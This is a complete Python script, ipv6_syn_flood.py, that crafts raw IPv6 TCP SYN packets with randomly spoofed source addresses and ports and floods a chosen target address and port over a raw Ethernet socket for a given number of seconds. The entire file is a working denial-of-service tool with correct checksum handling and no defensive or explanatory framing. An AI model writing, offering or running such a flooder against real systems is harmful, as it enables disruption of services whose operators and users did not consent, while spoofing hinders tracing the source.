#!/usr/bin/python3
"""ipv6_syn_flood.py INTERFACE MAC PREFIX ADDRESS PORT SECONDS

SYNs as fast as it can to ADDRESS (at MAC), each from another address of PREFIX/64 (2001:db8::).
Prints how many were sent.
"""
import random
import socket
import struct
import sys
import time


def segment(prefix, destination, port):
    """A SYN's octets from the IPv6 header on, from a random host and port."""
    source = prefix + random.getrandbits(64).to_bytes(8, "big")
    tcp = struct.pack("!HHIIHHHHBBH", random.randrange(1024, 65536), port, random.getrandbits(32), 0,
                      6 << 12 | 2, 65535, 0, 0, 2, 4, 1440)
    # RFC 8200 section 8.1
    summed = source + destination + struct.pack("!II", len(tcp), socket.IPPROTO_TCP) + tcp
    total = sum(struct.unpack(f"!{len(summed) // 2}H", summed))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    tcp = tcp[:16] + struct.pack("!H", total ^ 0xffff) + tcp[18:]
    return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + source + destination + tcp


def main(interface, mac, prefix, address, port, seconds):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + b"\x86\xdd"
    prefix = socket.inet_pton(socket.AF_INET6, prefix)[:8]
    destination = socket.inet_pton(socket.AF_INET6, address)
    end = time.monotonic() + float(seconds)
    sent = 0
    while time.monotonic() < end:
        try:
            wire.send(ethernet + segment(prefix, destination, int(port)))
            sent += 1
        except OSError:  # no room in the queue now
            time.sleep(0.0001)
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
